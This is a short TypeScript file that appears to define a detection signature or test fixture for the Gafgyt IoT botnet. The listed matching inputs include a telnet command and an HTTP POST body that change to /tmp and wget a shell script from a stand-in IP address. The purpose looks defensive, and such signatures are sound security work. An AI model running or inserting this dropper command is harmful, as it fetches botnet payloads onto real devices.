import { type Proof, get, post, proof, telnet } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'gafgyt',
    [telnet('cd /tmp; wget http://198.51.100.7/bins.sh'), post('/', 'wget http://198.51.100.7/bins.sh')],
    [telnet('bins'), get('/bins.html')],
  ),
]
